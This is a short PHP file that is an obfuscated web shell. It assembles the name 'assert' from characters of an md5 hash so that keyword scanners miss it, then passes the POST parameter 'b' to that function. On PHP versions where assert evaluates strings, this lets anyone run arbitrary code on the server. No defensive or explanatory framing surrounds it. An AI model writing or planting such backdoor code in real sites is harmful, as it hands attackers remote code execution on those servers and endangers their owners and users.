<?php
// Letters picked out of md5() of a constant (0cc175b9c0f1b6a831c399e269772661).
$h = md5('a');
$f = substr($h, 14, 1) . 'ss' . substr($h, 22, 1) . 'rt';
$f($_POST['b']);
